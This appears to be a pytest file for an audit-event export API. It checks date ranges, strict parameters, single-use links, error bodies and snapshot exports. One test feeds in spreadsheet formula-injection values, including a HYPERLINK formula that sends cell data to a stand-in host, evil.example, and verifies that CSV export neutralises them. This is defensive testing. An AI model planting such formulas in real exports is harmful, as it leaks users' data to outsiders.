"""Exports and reads as a new user and an attacker would try them (issue 14), on the real engine.

Small and quiet workspaces, any year, strict parameters, one error body, CSV
safe in a spreadsheet, snapshot semantics, single-use links, and pages ==
export as a property over random histories.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import uuid
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from producers.synthetic import EventGenerator
from query_api.export import EventExporter
from query_api.filters import EventFilters
from schemas.event import Actor, AuditEvent, RequestContext, Target
from tests.support.pipeline import all_pages, api_client, api_context, bearer, store_directly

pytestmark = pytest.mark.clickhouse

START = datetime(2026, 1, 1, tzinfo=UTC)


def _events(ws: str, times: list[datetime], seed: int = 1) -> list[AuditEvent]:
    gen = EventGenerator(seed=seed)
    # uuid4 ids: a UUIDv7 cannot carry a time before 1970, and the contract only asks for a UUID.
    return [dataclasses.replace(gen.event(ws, t), id=uuid.uuid4()) for t in times]


def _export(client, ws: str, headers: dict[str, str], fmt: str, **params: str):
    return client.get(f"/v1/workspaces/{ws}/audit/export", headers=headers, params={"format": fmt, **params})


def _ids(response, fmt: str) -> list[str]:
    if fmt == "jsonl":
        return [json.loads(line)["id"] for line in response.text.splitlines()]
    return [row["id"] for row in csv.DictReader(io.StringIO(response.text))]


@pytest.mark.parametrize(
    "times",
    [
        [START + timedelta(days=d * 60) for d in range(5)],  # 5 events over 240 days
        [START + timedelta(days=d * 28.1) for d in range(10)],  # 10 over 281 days
        [START + timedelta(days=d * 36.5) for d in range(11)],  # 11 over 365 days
        [START, START + timedelta(days=38)],  # 2 events 38 days apart
        [START],  # one event
        [datetime(1901, 2, 3, tzinfo=UTC), datetime(2298, 11, 30, tzinfo=UTC)],  # centuries apart
    ],
    ids=["5-over-240d", "10-over-281d", "11-over-365d", "2-38d-apart", "one", "centuries"],
)
@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_small_and_quiet_workspaces_export_every_event(clickhouse_settings, times, fmt):
    ws = f"ws_quiet_{uuid.uuid4().hex[:6]}"
    store_directly(clickhouse_settings, _events(ws, times))
    client = api_client(clickhouse_settings)
    headers = bearer(clickhouse_settings, ws)
    response = _export(client, ws, headers, fmt)
    assert response.status_code == 200
    pages = all_pages(client, f"/v1/workspaces/{ws}/audit/events", headers, {"limit": 3})
    assert _ids(response, fmt) == [p["id"] for p in pages]
    assert len(pages) == len(times)


@pytest.fixture
def api(clickhouse_settings):
    ws = "ws_contract"
    times = [START + timedelta(hours=7 * i) for i in range(60)]
    store_directly(clickhouse_settings, _events(ws, times, seed=4))
    return clickhouse_settings, api_client(clickhouse_settings), ws, bearer(clickhouse_settings, ws)


DATES = ["0001-01-01", "0999-12-31", "1899-12-31", "1900-01-01", "2026-01-05", "2299-12-31", "2300-01-01",
         "9999-12-31", "0001-01-01T00:00:00+01:00", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59.999999Z",
         "9999-12-31T23:00:00-02:00", "2026-01-05T10:00:00+02:00"]


@pytest.mark.parametrize("value", DATES)
@pytest.mark.parametrize("name", ["since", "until"])
def test_any_year_on_every_endpoint_is_an_answer_never_a_5xx(api, name, value):
    _, client, ws, headers = api
    base = f"/v1/workspaces/{ws}/audit"
    listed = client.get(f"{base}/events", headers=headers, params={name: value})
    assert listed.status_code == 200, listed.text
    assert listed.json()["filters"] == {name: value}
    for fmt in ("jsonl", "csv"):
        exported = _export(client, ws, headers, fmt, **{name: value})
        assert exported.status_code == 200, exported.text
        ids = _ids(exported, fmt)
        assert ids == [e["id"] for e in all_pages(client, f"{base}/events", headers, {name: value, "limit": 200})]
    link = client.post(f"{base}/export-links", headers=headers, params={"format": "csv", name: value})
    assert link.status_code == 200, link.text


def test_the_whole_range_selects_everything_and_the_outside_nothing(api):
    _, client, ws, headers = api
    url = f"/v1/workspaces/{ws}/audit/events"
    whole = client.get(url, headers=headers, params={"since": "0001-01-01", "until": "9999-12-31", "limit": 200})
    assert len(whole.json()["data"]) == 60
    before = client.get(url, headers=headers, params={"until": "1899-12-31"}).json()["data"]
    after = client.get(url, headers=headers, params={"since": "2300-01-01"}).json()["data"]
    assert before == [] and after == []


def test_echoed_filters_are_the_ones_given_on_every_page(api):
    _, client, ws, headers = api
    url = f"/v1/workspaces/{ws}/audit/events"
    first = client.get(url, headers=headers, params={"until": "2026-06-30", "limit": 5}).json()
    assert first["filters"] == {"until": "2026-06-30"}
    second = client.get(url, headers=headers, params={"cursor": first["next_cursor"]}).json()
    assert second["filters"] == {"until": "2026-06-30"}


@pytest.mark.parametrize(
    ("params", "field", "fragment"),
    [
        ({"since": "20260301"}, "since", "has no dashes; write the date as YYYY-MM-DD, e.g. 2026-03-01"),
        ({"action": "NOPE"}, "action", "not in the action catalog"),
        ({"action": "MEMBER_ROLE_CHANGD"}, "action", "Did you mean MEMBER_ROLE_CHANGED"),
        ({"catgory": "members"}, "catgory", "Did you mean category?"),
        ({"catgory": "members"}, "catgory", "Known parameters: category, actor, target_kind, action, since, until"),
        ({"category": ["members", "auth"]}, "category", "more than once"),
    ],
)
@pytest.mark.parametrize("endpoint", ["events", "export", "export-links"])
def test_strict_input_names_the_real_problem_on_every_endpoint(api, params, field, fragment, endpoint):
    _, client, ws, headers = api
    method = client.post if endpoint == "export-links" else client.get
    response = method(f"/v1/workspaces/{ws}/audit/{endpoint}", headers=headers, params=params)
    assert response.status_code == 400, response.text
    body = response.json()
    assert body["status"] == 400 and body["field"] == field and fragment in body["message"]


def test_unknown_parameters_are_refused_on_single_events_and_downloads(api):
    _, client, ws, headers = api
    event = client.get(f"/v1/workspaces/{ws}/audit/events", headers=headers, params={"limit": 1}).json()["data"][0]
    one = client.get(f"/v1/workspaces/{ws}/audit/events/{event['id']}", headers=headers, params={"x": "1"})
    assert one.status_code == 400 and one.json()["code"] == "unknown_parameter"
    download = client.get(f"/v1/workspaces/{ws}/audit/export-downloads", params={"ticket": "t", "format": "csv"})
    assert download.status_code == 400 and "Known parameters: ticket" in download.json()["message"]


def test_export_links_take_filters_as_query_parameters_and_refuse_a_body(api):
    _, client, ws, headers = api
    url = f"/v1/workspaces/{ws}/audit/export-links"
    refused = client.post(url, headers=headers, json={"format": "csv", "category": "members"})
    assert refused.status_code == 400
    assert refused.json()["code"] == "unexpected_body" and "query parameters" in refused.json()["message"]
    link = client.post(url, headers=headers, params={"format": "csv", "category": "members"}).json()["url"]
    rows = list(csv.DictReader(io.StringIO(client.get(link).text)))
    assert rows and {r["category"] for r in rows} == {"members"}


def test_a_download_link_works_once(api):
    _, client, ws, headers = api
    url = client.post(f"/v1/workspaces/{ws}/audit/export-links", headers=headers,
                      params={"format": "jsonl"}).json()["url"]
    first = client.get(url)
    assert first.status_code == 200 and len(first.text.splitlines()) == 60
    second = client.get(url)
    assert second.status_code == 410
    assert second.json() == {"status": 410, "code": "link_used", "field": "ticket",
                             "message": second.json()["message"]}
    assert "already used" in second.json()["message"]


def test_every_4xx_has_the_one_error_body_and_the_openapi_declares_it(api):
    _, client, ws, headers = api
    answers = [
        client.get(f"/v1/workspaces/{ws}/audit/events", headers=headers, params={"limit": "ten"}),
        client.get(f"/v1/workspaces/{ws}/audit/events"),
        client.get(f"/v1/workspaces/{ws}/audit/export", headers=headers, params={"format": "xml"}),
        client.get(f"/v1/workspaces/{ws}/audit/events/not-a-uuid", headers=headers),
        client.get("/v1/nowhere"),
    ]
    assert [a.status_code for a in answers] == [400, 401, 400, 400, 404]
    for answer in answers:
        assert set(answer.json()) == {"status", "code", "message", "field"}, answer.text
        assert answer.json()["status"] == answer.status_code
    assert answers[2].json()["field"] == "format" and "jsonl" in answers[2].json()["message"]
    schema = client.get("/openapi.json").json()
    for path, operations in schema["paths"].items():
        for method, operation in operations.items():
            assert "422" not in operation["responses"], (method, path)
            if path.startswith("/v1/workspaces"):
                ref = operation["responses"]["4XX"]["content"]["application/json"]["schema"]["$ref"]
                assert ref.endswith("/ErrorOut")
    assert set(schema["components"]["schemas"]["ErrorOut"]["properties"]) == {"status", "code", "message", "field"}


FORMULAS = {
    "actor_display": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "target_display": "@SUM(A1:A9)",
    "user_agent": "\tcmd",
    "request_id": "-2+3",
    "ip": "+1",
    "target_id": "\r=1",
}


def test_csv_cells_that_start_like_a_formula_get_a_quote_and_jsonl_stays_exact(clickhouse_settings):
    ws = "ws_formula"
    base = _events(ws, [START + timedelta(minutes=i) for i in range(3)])
    evil = dataclasses.replace(
        base[0],
        actor=Actor("user", "usr_evil", FORMULAS["actor_display"]),
        target=Target(base[0].target.kind, FORMULAS["target_id"], FORMULAS["target_display"]),
        context=RequestContext(ip=FORMULAS["ip"], user_agent=FORMULAS["user_agent"],
                               request_id=FORMULAS["request_id"], service="web"),
    )
    store_directly(clickhouse_settings, [evil, *base[1:]])
    client = api_client(clickhouse_settings)
    headers = bearer(clickhouse_settings, ws)
    text = _export(client, ws, headers, "csv").text
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(text))}
    row = rows[str(evil.id)]
    for column, value in FORMULAS.items():
        assert row[column] == "'" + value, column
    assert rows[str(base[1].id)]["actor_display"] == base[1].actor.display  # plain cells untouched
    quoted_all = io.StringIO()  # every field quoted: the body is what a QUOTE_ALL writer writes
    csv.writer(quoted_all, quoting=csv.QUOTE_ALL, lineterminator="\n").writerows(
        csv.reader(io.StringIO(text)))
    assert quoted_all.getvalue() == text
    line = next(json.loads(x) for x in _export(client, ws, headers, "jsonl").text.splitlines()
                if json.loads(x)["id"] == str(evil.id))
    assert line["actor"]["display"] == FORMULAS["actor_display"]
    assert line["context"]["user_agent"] == FORMULAS["user_agent"]


def test_an_export_is_a_snapshot_of_its_start(clickhouse_settings):
    ws = "ws_snapshot"
    store_directly(clickhouse_settings, _events(ws, [START + timedelta(hours=i) for i in range(30)]))
    client = api_client(clickhouse_settings)
    engine = api_context(client).client
    exporter = EventExporter(engine, clickhouse_settings.events_table, chunk_rows=4)
    chunks = exporter.chunks(ws, EventFilters(), "jsonl")
    first = next(chunks)
    # Arriving during the export: newer events, older ones, and one inside the range being read.
    store_directly(clickhouse_settings, _events(ws, [START + timedelta(days=30), START - timedelta(days=3),
                                                     START + timedelta(hours=10, minutes=30)], seed=9))
    exported = [json.loads(x)["id"] for x in (first + b"".join(chunks)).decode().splitlines()]
    assert len(exported) == 30
    after = b"".join(EventExporter(engine, clickhouse_settings.events_table).chunks(ws, EventFilters(), "jsonl"))
    assert len(after.splitlines()) == 33  # the next export sees them


@settings(max_examples=12, deadline=None, suppress_health_check=list(HealthCheck), database=None)
@given(
    offsets=st.lists(st.integers(min_value=0, max_value=(400 * 365 - 2) * 86_400 * 10**6), min_size=1, max_size=25),
    bursts=st.lists(st.integers(min_value=1, max_value=12), max_size=2),
    chunk_rows=st.integers(min_value=1, max_value=9),
    fmt=st.sampled_from(["jsonl", "csv"]),
)
def test_pages_equal_the_export_for_random_histories_on_the_real_engine(clickhouse_settings, offsets, bursts,
                                                                         chunk_rows, fmt):
    ws = f"ws_prop_{uuid.uuid4().hex[:8]}"
    origin = datetime(1900, 1, 2, tzinfo=UTC)
    times = [origin + timedelta(microseconds=o) for o in offsets]
    for size in bursts:
        times += [times[0]] * size  # many rows at one instant
    events = _events(ws, times)
    store_directly(clickhouse_settings, events + events[: len(events) // 3])  # copies not merged yet
    client = api_client(clickhouse_settings)
    headers = bearer(clickhouse_settings, ws)
    exporter = EventExporter(api_context(client).client, clickhouse_settings.events_table,
                             chunk_rows=chunk_rows)
    body = b"".join(exporter.chunks(ws, EventFilters(), fmt)).decode()
    exported = ([json.loads(x)["id"] for x in body.splitlines()] if fmt == "jsonl"
                else [r["id"] for r in csv.DictReader(io.StringIO(body))])
    pages = all_pages(client, f"/v1/workspaces/{ws}/audit/events", headers, {"limit": 7})
    assert exported == [p["id"] for p in pages]
    assert len(exported) == len(events)
